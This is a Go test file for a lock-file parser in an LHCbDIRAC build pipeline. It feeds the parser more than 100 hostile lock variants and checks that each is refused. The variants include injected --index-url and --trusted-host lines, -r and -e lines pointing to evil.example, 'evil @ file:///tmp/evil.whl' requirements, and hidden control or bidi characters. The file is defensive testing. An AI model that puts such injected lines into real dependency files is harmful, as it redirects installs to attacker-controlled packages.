package lhcbdirac

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/lhcbdirac/lhcbdirac-pipeline/internal/build/sources"
	"github.com/lhcbdirac/lhcbdirac-pipeline/internal/python/pep440"
	"github.com/lhcbdirac/lhcbdirac-pipeline/internal/python/pep508"
)

func hash(c string) string { return strings.Repeat(c, 64) }

// baseLock is a valid lock; each hostile case breaks one line of it.
// Its lines, numbered:
var baseLock = []string{
	/* 1 */ "# lhcbdirac lock for LHCbDIRAC[server]==12.0.21 (a test lock).",
	/* 2 */ "# lhcbdirac:requirement LHCbDIRAC[server]==12.0.21",
	/* 3 */ "# lhcbdirac:source-built m2crypto",
	/* 4 */ "# lhcbdirac:from-debian gfal2-python python3-gfal2",
	/* 5 */ "",
	/* 6 */ "# lhcbdirac:section runtime",
	/* 7 */ "dirac==9.1.22 \\",
	/* 8 */ "    --hash=sha256:" + hash("b"),
	/* 9 */ "lhcbdirac==12.0.21 \\",
	/* 10 */ "    --hash=sha256:" + hash("a") + " \\",
	/* 11 */ "    --hash=sha256:" + hash("1"),
	/* 12 */ "m2crypto==0.51.0 \\",
	/* 13 */ "    --hash=sha256:" + hash("c"),
	/* 14 */ "",
	/* 15 */ "# lhcbdirac:section build",
	/* 16 */ "pip==26.3 \\",
	/* 17 */ "    --hash=sha256:" + hash("d"),
}

func joinLines(lines []string) string { return strings.Join(lines, "\n") + "\n" }

// edit is baseLock with line n (1-based) replaced by lines (none: deleted).
func edit(n int, lines ...string) string {
	out := append([]string{}, baseLock[:n-1]...)
	out = append(out, lines...)
	return joinLines(append(out, baseLock[n:]...))
}

// insert is baseLock with lines inserted after line n.
func insert(n int, lines ...string) string {
	out := append([]string{}, baseLock[:n]...)
	out = append(out, lines...)
	return joinLines(append(out, baseLock[n:]...))
}

type hostile struct {
	name string
	lock string
	line int    // the line the error must name; 0: the file as a whole
	want string // part of the error
}

func hostileLocks() []hostile {
	h := "--hash=sha256:" + hash("e")
	m2crypto := baseLock[11] + "\n" + baseLock[12] // the entry, lines 12-13
	return []hostile{
		// Lines pip or uv would read as requirements or options.
		{"indented URL requirement under an entry", insert(11, "    evil @ file:///tmp/evil-1.0-py3-none-any.whl "+h), 12, "continues nothing"},
		{"indented --index-url", insert(8, "    --index-url https://evil.example/simple"), 9, "continues nothing"},
		{"indented --extra-index-url", insert(13, "    --extra-index-url https://evil.example/simple"), 14, "continues nothing"},
		{"indented --trusted-host", insert(17, "    --trusted-host evil.example"), 18, "continues nothing"},
		{"indented -r URL", insert(8, "    -r https://evil.example/more.txt"), 9, "continues nothing"},
		{"indented requirement in the build section", insert(17, "    evil==1.0 "+h), 18, "continues nothing"},
		{"continued --index-url", edit(11, "    --hash=sha256:"+hash("1")+" \\", "    --index-url https://evil.example/simple"), 12, "option --index-url"},
		{"continued --extra-index-url", edit(8, "    --hash=sha256:"+hash("b")+" \\", "    --extra-index-url=https://evil.example/simple"), 9, "option --extra-index-url"},
		{"continued -r", edit(13, "    --hash=sha256:"+hash("c")+" \\", "    -r more.txt"), 14, "option -r"},
		{"continued URL requirement", edit(17, "    --hash=sha256:"+hash("d")+" \\", "    evil @ file:///tmp/evil.whl "+h), 18, "only --hash=sha256:<hex>"},
		{"continued --trusted-host", edit(13, "    --hash=sha256:"+hash("c")+" \\", "    --trusted-host evil.example"), 14, "option --trusted-host"},
		{"--index-url line", insert(6, "--index-url https://evil.example/simple"), 7, "option --index-url"},
		{"--extra-index-url line in build", insert(15, "--extra-index-url https://evil.example/simple"), 16, "option --extra-index-url"},
		{"-i line", insert(6, "-i https://evil.example/simple"), 7, "option -i"},
		{"--trusted-host line", insert(15, "--trusted-host evil.example"), 16, "option --trusted-host"},
		{"-r line", insert(14, "-r https://evil.example/more.txt"), 15, "option -r"},
		{"-c line", insert(14, "-c constraints.txt"), 15, "option -c"},
		{"-e line", insert(14, "-e git+https://evil.example/evil.git#egg=evil"), 15, "option -e"},
		{"--find-links line", insert(14, "--find-links /tmp/wheels"), 15, "option --find-links"},
		{"--no-binary line", insert(14, "--no-binary :all:"), 15, "option --no-binary"},
		{"option on an entry line", edit(16, "pip==26.3 --index-url=https://evil.example/simple \\"), 16, "option --index-url"},
		{"--pre on an entry line", edit(16, "pip==26.3 --pre \\"), 16, "option --pre"},
		{"URL requirement", insert(13, "evil @ file:///tmp/evil-1.0-py3-none-any.whl "+h), 14, "URL or path requirement"},
		{"URL requirement without spaces", insert(13, "evil@https://evil.example/evil.whl "+h), 14, "URL or path requirement"},
		{"path requirement", insert(13, "./evil-1.0-py3-none-any.whl "+h), 14, "not a distribution name"},
		{"bare URL", insert(13, "https://evil.example/evil-1.0-py3-none-any.whl "+h), 14, "not pinned with =="},

		// Pins that pin less than they say.
		{"hash only in a comment", strings.Replace(joinLines(baseLock), m2crypto, "m2crypto==0.51.0\n# --hash=sha256:"+hash("c"), 1), 13, "a --hash in a comment pins nothing"},
		{"hash in a via annotation", insert(13, "    # via lhcbdirac --hash=sha256:"+hash("c")), 14, "a --hash in a comment"},
		{"hash after a comment mark", edit(12, "m2crypto==0.51.0 # --hash=sha256:"+hash("c")), 12, `holds "#"`},
		{"no hash at all", strings.Replace(joinLines(baseLock), m2crypto, "m2crypto==0.51.0", 1), 12, "has no sha256 hash"},
		{"wildcard pin", edit(7, "dirac==9.* \\"), 7, "wildcard"},
		{"arbitrary equality", edit(7, "dirac===9.1.22 \\"), 7, "=== (arbitrary equality)"},
		{">= instead of ==", edit(7, "dirac>=9.1 \\"), 7, "not pinned with =="},
		{"~= instead of ==", edit(7, "dirac~=9.1.22 \\"), 7, "not pinned with =="},
		{"!= instead of ==", edit(7, "dirac!=9.1.21 \\"), 7, "not pinned with =="},
		{"no operator", edit(7, "dirac \\"), 7, "not pinned with =="},
		{"no version", edit(7, "dirac== \\"), 7, "no version after =="},
		{"local version", edit(7, "dirac==9.1.22+evil \\"), 7, "local version"},
		{"version not in normal form", edit(7, "dirac==9.1.22-1 \\"), 7, "write the version as 9.1.22.post1"},
		{"version with a v", edit(7, "dirac==v9.1.22 \\"), 7, "not a PEP 440 version"},
		{"not a version", edit(7, "dirac==9.1.x \\"), 7, "not a PEP 440 version"},
		{"two clauses", edit(7, "dirac==9.1.22,<10 \\"), 7, "not a PEP 440 version"},
		{"spaces around ==", edit(7, "dirac == 9.1.22 \\"), 7, "without spaces"},
		{"extras", edit(7, "dirac[server]==9.1.22 \\"), 7, "extras in an entry"},
		{"invalid name", edit(7, "dirac-==9.1.22 \\"), 7, "not a distribution name"},
		{"duplicate pin", insert(13, "dirac==9.1.21 \\", "    --hash=sha256:"+hash("f")), 14, "dirac is pinned twice in the runtime section (the first is line 7)"},
		{"duplicate pin, other spelling", insert(13, "DIRAC==9.1.22 \\", "    --hash=sha256:"+hash("f")), 14, "dirac is pinned twice"},
		{"duplicate pin, separators", insert(17, "PIP==26.3 --hash=sha256:"+hash("f")), 18, "pip is pinned twice in the build section"},
		{"build and runtime disagree", insert(17, "dirac==9.1.21 --hash=sha256:"+hash("f")), 18, "the build section pins dirac==9.1.21, but the runtime section (line 7) pins 9.1.22"},

		// Markers.
		{"marker never true", edit(12, `m2crypto==0.51.0 ; sys_platform == "win32" \`), 12, "never true for the image"},
		{"marker for an older Python", edit(12, `m2crypto==0.51.0 ; python_version < "3.8" \`), 12, "never true"},
		{"marker on the patch release", edit(12, `m2crypto==0.51.0 ; python_full_version >= "3.11.4" \`), 12, "depends on which 3.11 release"},
		{"marker on the kernel", edit(12, `m2crypto==0.51.0 ; platform_release >= "5" \`), 12, "platform_release, which the target does not fix"},
		{"marker on an extra", edit(12, `m2crypto==0.51.0 ; extra == "server" \`), 12, "extra"},
		{"marker with a comment mark", edit(12, `m2crypto==0.51.0 ; os_name == "posix #" \`), 12, `holds "#"`},
		{"marker with a variable", edit(12, `m2crypto==0.51.0 ; os_name == "${PIP_INDEX_URL}" \`), 12, `holds "$"`},
		{"empty marker", edit(12, `m2crypto==0.51.0 ; \`), 12, "nothing after ;"},
		{"malformed marker", edit(12, `m2crypto==0.51.0 ; os_name = "posix" \`), 12, "want a comparison operator"},
		{"marker cut by an option word", edit(12, `m2crypto==0.51.0 ; os_name == ' -x' \`), 12, "not a quoted string"},

		// Hashes.
		{"sha512", edit(13, "    --hash=sha512:"+strings.Repeat("c", 128)), 13, "pins by sha256"},
		{"md5", edit(13, "    --hash=md5:"+strings.Repeat("c", 32)), 13, "pins by sha256"},
		{"short hex", edit(13, "    --hash=sha256:"+strings.Repeat("c", 63)), 13, "63 hex digits"},
		{"long hex", edit(13, "    --hash=sha256:"+strings.Repeat("c", 65)), 13, "65 hex digits"},
		{"upper-case hex", edit(13, "    --hash=sha256:"+strings.Repeat("C", 64)), 13, "lower case"},
		{"not hex", edit(13, "    --hash=sha256:"+strings.Repeat("g", 64)), 13, "not hexadecimal"},
		{"hash without =", edit(13, "    --hash sha256:"+hash("c")), 13, "write --hash=sha256:<hex>"},
		{"hash without algorithm", edit(13, "    --hash="+hash("c")), 13, "write --hash=sha256:<hex>"},
		{"same hash twice", edit(11, "    --hash=sha256:"+hash("a")), 11, "lists sha256:" + hash("a") + " twice"},

		// Continuations.
		{"\\ at the end of the file", joinLines(append(append([]string{}, baseLock[:16]...), "    --hash=sha256:"+hash("d")+" \\")), 17, "the lock ends there"},
		{"\\ then a blank line", edit(13, "    --hash=sha256:"+hash("c")+" \\", ""), 13, "is blank"},
		{"\\ then a comment", edit(13, "    --hash=sha256:"+hash("c")+" \\", "    # via lhcbdirac"), 13, "is a comment"},
		{"\\ then spaces", edit(7, "dirac==9.1.22 \\ "), 7, "spaces after the final \\"},
		{"\\\\ (two)", edit(7, "dirac==9.1.22 \\\\"), 7, `"9.1.22 \\" is not a PEP 440 version`},
		{"continuation not indented", edit(8, "--hash=sha256:"+hash("b")), 8, "not indented"},
		{"trailing spaces", edit(16, "pip==26.3  "), 16, "ends in spaces"},
		{"trailing spaces on a hash line", edit(8, "    --hash=sha256:"+hash("b")+" "), 8, "ends in spaces"},

		// Comments and annotations.
		{"indented comment that is no annotation", insert(13, "    # pip install evil"), 14, "not uv's '# via' annotation"},
		{"via item without # via", insert(13, "    #   lhcbdirac"), 14, "not uv's '# via' annotation"},
		{"annotation outside an entry", insert(14, "    # via lhcbdirac"), 15, "outside an entry's annotations"},
		{"two # via blocks", insert(13, "    # via", "    #   lhcbdirac", "    # via dirac"), 16, "a second '# via'"},

		// Characters a reader cannot see or a tool reads otherwise.
		{"NUL in a comment", edit(1, "# a test lock\x00"), 1, "control character U+0000"},
		{"NUL in a hash line", edit(8, "    --hash=sha256:"+hash("b")+"\x00"), 8, "control character U+0000"},
		{"NUL in a name", edit(7, "dir\x00ac==9.1.22 \\"), 7, "control character"},
		{"escape sequence in a comment", insert(5, "# \x1b[2K\x1b[1A hidden"), 6, "control character U+001B"},
		{"form feed", insert(5, "\f"), 6, "control character U+000C"},
		{"DEL", edit(1, "# \x7f"), 1, "control character U+007F"},
		{"C1 control", edit(1, "# \u0085"), 1, "control character U+0085"},
		{"byte-order mark", "\uFEFF" + joinLines(baseLock), 1, "byte-order mark"},
		{"byte-order mark inside", edit(12, "m2crypto==0.51.0\uFEFF \\"), 12, "byte-order mark"},
		{"CR LF", strings.ReplaceAll(joinLines(baseLock), "\n", "\r\n"), 1, "CR LF"},
		{"lone CR", edit(8, "    --hash=sha256:"+hash("b")+"\r    --index-url https://evil.example"), 8, "control character U+000D"},
		{"tab indentation", edit(8, "\t--hash=sha256:"+hash("b")), 8, "tab"},
		{"bidi override in a comment", insert(5, "# \u202e lock safe"), 6, "invisible character U+202E"},
		{"zero-width space in a name", edit(7, "dir\u200bac==9.1.22 \\"), 7, "invisible character U+200B"},
		{"line separator", edit(1, "# a\u2028b"), 1, "invisible character U+2028"},
		{"invalid UTF-8", edit(1, "# \xff\xfe"), 1, "not valid UTF-8"},

		// Directives and structure.
		{"entry before any section", edit(6), 6, "an entry before any '# lhcbdirac:section'"},
		{"unknown section", edit(15, "# lhcbdirac:section extra"), 15, `unknown section "extra"`},
		{"unknown directive", insert(4, "# lhcbdirac:index-url https://evil.example/simple"), 5, "unknown directive '# lhcbdirac:index-url'"},
		{"directive without a key", insert(4, "# lhcbdirac:"), 5, "unknown directive"},
		{"malformed directive", insert(4, "# lhcbdirac:Section runtime"), 5, "not a directive"},
		{"second runtime section", insert(17, "# lhcbdirac:section runtime"), 18, "a second '# lhcbdirac:section runtime' (the first is line 6)"},
		{"second source-built", insert(3, "# lhcbdirac:source-built tornado"), 4, "a second '# lhcbdirac:source-built' (the first is line 3)"},
		{"source-built not a name", edit(3, "# lhcbdirac:source-built m2crypto ../evil"), 3, "not a distribution name"},
		{"source-built not in the runtime", edit(3, "# lhcbdirac:source-built tornado"), 3, "source-built tornado is not in the runtime section"},
		{"requirement not the pinned version", edit(2, "# lhcbdirac:requirement LHCbDIRAC[server]==12.0.20"), 2, "the lock is for LHCbDIRAC[server]==12.0.20, but its runtime section pins lhcbdirac==12.0.21 (line 9)"},
		{"requirement malformed", edit(2, "# lhcbdirac:requirement LHCbDIRAC>=12"), 2, "want NAME[EXTRAS]==VERSION"},
		{"from-debian malformed", edit(4, "# lhcbdirac:from-debian gfal2-python"), 4, "want DISTRIBUTION DEBIAN-PACKAGE"},
		{"from-debian yet pinned", insert(13, "gfal2-python==1.12.0 --hash=sha256:"+hash("f")), 14, "gfal2-python is pinned in the runtime section, but line 4 takes it from Debian"},
		{"no dirac", edit(7, "diracx==9.1.22 \\"), 0, "the lock does not install dirac"},
		{"no runtime section", joinLines(baseLock[14:]), 0, "not an lhcbdirac lock"},
		{"empty file", "", 0, "not an lhcbdirac lock"},
		{"too large", joinLines(baseLock) + strings.Repeat("#\n", MaxLockSize/2), 0, "a lock is at most"},
	}
}

// TestHostileLocks: every case is refused, naming its line and what is
// wrong; the case names are distinct and each breaks the valid base.
func TestHostileLocks(t *testing.T) {
	if _, err := ParseLock("x.lock", []byte(joinLines(baseLock))); err != nil {
		t.Fatalf("the base lock: %v", err)
	}
	cases := hostileLocks()
	names := map[string]bool{}
	for _, c := range cases {
		if names[c.name] {
			t.Errorf("two cases named %q", c.name)
		}
		names[c.name] = true
		l, err := ParseLock("x.lock", []byte(c.lock))
		if err == nil {
			t.Errorf("%s: accepted (%d runtime pins)", c.name, len(l.Runtime))
			continue
		}
		prefix := "x.lock: "
		if c.line != 0 {
			prefix = fmt.Sprintf("x.lock:%d: ", c.line)
		}
		if !strings.HasPrefix(err.Error(), prefix) || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v\n\twant %q…%q", c.name, err, prefix, c.want)
		}
		if len(err.Error()) > 400 {
			t.Errorf("%s: a %d-character error", c.name, len(err.Error()))
		}
	}
	if len(cases) < 100 {
		t.Errorf("%d hostile cases", len(cases))
	}
}

// What an install input may hold: pins (name==version[ ; marker] \) and
// their hash lines, in uv's layout.
var (
	pinLineRE  = regexp.MustCompile(`^([a-z0-9]+(?:-[a-z0-9]+)*)==([0-9a-z.!]+)(?: ; (.+))? \\$`)
	hashLineRE = regexp.MustCompile(`^    --hash=sha256:[0-9a-f]{64}(?: \\)?$`)
)

// checkInstallInput fails unless text is only pins and hashes, every one
// a parsed entry of l.
func checkInstallInput(t *testing.T, what string, l *Lock, text string) {
	t.Helper()
	if text == "" {
		return
	}
	if !strings.HasSuffix(text, "\n") {
		t.Errorf("%s: no final newline", what)
	}
	entries := map[string]bool{}
	for _, p := range append(append([]Pin{}, l.Runtime...), l.Build...) {
		entries[p.Requirement()] = true
	}
	for _, line := range strings.Split(strings.TrimSuffix(text, "\n"), "\n") {
		if hashLineRE.MatchString(line) {
			continue
		}
		m := pinLineRE.FindStringSubmatch(line)
		if m == nil {
			t.Errorf("%s: %q is not a pin or a hash line", what, line)
			continue
		}
		if v, err := pep440.Parse(m[2]); err != nil || !v.Normal() || v.Local() != "" {
			t.Errorf("%s: %q: not a public version in normal form", what, line)
		}
		if m[3] != "" {
			if mk, err := pep508.ParseMarker(m[3]); err != nil || mk.String() != m[3] || strings.ContainsAny(m[3], "#$\\") {
				t.Errorf("%s: %q: not a marker in normal form (%v)", what, line, err)
			}
		}
	}
	// It splits into whole entries, each one of the lock's.
	for _, e := range regexp.MustCompile(`(?m)^[^ ].*(?:\n    .*)*\n`).FindAllString(text, -1) {
		if !entries[e] {
			t.Errorf("%s: %q is not one of the lock's entries", what, e)
		}
	}
}

// TestRealLockFormats: the layout ResolveLock writes (testdata/resolved.lock,
// trimmed from LHCbDIRAC 12.0.21's) and uv's annotated one with a
// --universal marker (testdata/annotated.lock) parse, and what install.sh
// gets is exactly their entries. For the resolved layout that is the
// file's own entry lines, byte for byte, as before the parser was strict.
func TestRealLockFormats(t *testing.T) {
	for _, f := range []string{"resolved.lock", "annotated.lock"} {
		l, err := ReadLock(filepath.Join("testdata", f))
		if err != nil {
			t.Fatal(err)
		}
		if l.LHCbDIRACVersion() != "12.0.21" || l.DIRACVersion() != "9.1.22" || len(l.SourceBuilt) != 3 || len(l.Build) != 6 {
			t.Fatalf("%s: %+v", f, l)
		}
		for _, in := range installInputs(l, nil) {
			checkInstallInput(t, f+" "+in.path, l, in.text)
		}
		var all strings.Builder
		for _, p := range l.Runtime {
			all.WriteString(p.Requirement())
		}
		if f == "resolved.lock" {
			runtime, _, _ := strings.Cut(string(l.Raw), "\n\n# lhcbdirac:section build\n")
			_, runtime, _ = strings.Cut(runtime, "# lhcbdirac:section runtime\n")
			if all.String() != runtime+"\n" {
				t.Errorf("%s: the runtime entries are not written as the file has them", f)
			}
			if _, build, _ := strings.Cut(string(l.Raw), "# lhcbdirac:section build\n"); string(l.BuildRequirements()) != build {
				t.Errorf("%s: the build section is not written as the file has it:\n%s", f, l.BuildRequirements())
			}
		} else {
			if strings.Contains(all.String(), "#") || strings.Contains(all.String(), "via") {
				t.Errorf("%s: annotations reach the installer", f)
			}
			p, _ := l.Find("typing_extensions")
			if p.Marker != "python_full_version < '3.15'" || !strings.HasPrefix(p.Requirement(), "typing-extensions==4.16.0 ; python_full_version < '3.15' \\\n    --hash=sha256:") {
				t.Errorf("%s: typing-extensions: %+v", f, p)
			}
		}
	}
}

// TestInstallInputHasOnlyEntries is the route a hostile lock took: an
// indented "evil @ file:///…" line under a real entry was accepted and
// handed to uv in /in/runtime.txt. Now ReadLock refuses it; and a lock
// whose comments and annotations name evil things gives install.sh
// nothing of them.
func TestInstallInputHasOnlyEntries(t *testing.T) {
	dir := t.TempDir()
	evil := insert(11, "    evil @ file:///tmp/evil-1.0-py3-none-any.whl --hash=sha256:"+hash("e"))
	path := filepath.Join(dir, "evil.lock")
	os.WriteFile(path, []byte(evil), 0o644)
	if l, err := ReadLock(path); err == nil {
		t.Fatalf("the evil lock was accepted; install.sh would get:\n%s", l.RuntimeRequirements())
	} else if !strings.Contains(err.Error(), path+":12: ") {
		t.Fatalf("the evil lock: %v", err)
	}
	commented := insert(11,
		"    # via",
		"    #   evil @ file:///tmp/evil-1.0-py3-none-any.whl",
		"    #   --index-url https://evil.example/simple")
	commented = strings.Replace(commented, "# lhcbdirac:section build", "# evil @ file:///tmp/evil.whl -r https://evil.example\n# lhcbdirac:section build", 1)
	os.WriteFile(path, []byte(commented), 0o644)
	l, err := ReadLock(path)
	if err != nil {
		t.Fatal(err)
	}
	hotfix := []sources.Source{{Name: "DIRAC", Repo: "https://example.invalid/DIRAC.git", Branch: "fix", Commit: strings.Repeat("0", 40)}}
	for _, srcs := range [][]sources.Source{nil, hotfix} {
		for _, in := range installInputs(l, srcs) {
			checkInstallInput(t, in.path, l, in.text)
			if strings.Contains(in.text, "evil") || strings.Contains(in.text, "index-url") {
				t.Errorf("%s: %q", in.path, in.text)
			}
		}
	}
	files := map[string]string{}
	for _, in := range installInputs(l, hotfix) {
		files[in.path] = in.text
	}
	if files["/in/runtime.txt"] != "" || !strings.HasPrefix(files["/in/last.txt"], "lhcbdirac==12.0.21 \\\n") ||
		!strings.HasPrefix(files["/in/sources.txt"], "m2crypto==0.51.0 \\\n") || !strings.HasPrefix(files["/in/build.txt"], "pip==26.3 \\\n") || files["/in/extra.txt"] != files["/in/build.txt"] {
		t.Errorf("install inputs with DIRAC hotfixed: %q", files)
	}
}

// FuzzParseLock: no input makes the parser panic, and whatever it
// accepts gives an installer only name==version[ ; marker] pins and
// --hash=sha256: lines, re-read as the same entries.
func FuzzParseLock(f *testing.F) {
	f.Add([]byte(joinLines(baseLock)))
	for _, c := range hostileLocks() {
		if len(c.lock) < 4096 {
			f.Add([]byte(c.lock))
		}
	}
	for _, name := range []string{"resolved.lock", "annotated.lock"} {
		if b, err := os.ReadFile(filepath.Join("testdata", name)); err == nil {
			f.Add(b)
		}
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		l, err := ParseLock("fuzz.lock", b)
		if err != nil {
			if !strings.HasPrefix(err.Error(), "fuzz.lock:") {
				t.Fatalf("an error that does not name the file: %v", err)
			}
			return
		}
		for _, in := range installInputs(l, nil) {
			checkInstallInput(t, in.path, l, in.text)
		}
		// What an installer gets reads back as a lock of the same entries.
		again, err := ParseLock("again", []byte("# lhcbdirac:section runtime\n"+string(l.RuntimeRequirements())+string(l.SourceRequirements())))
		if err != nil {
			t.Fatalf("the install input does not read back: %v", err)
		}
		if len(again.Runtime) != len(l.Runtime) {
			t.Fatalf("%d runtime entries read back as %d", len(l.Runtime), len(again.Runtime))
		}
	})
}
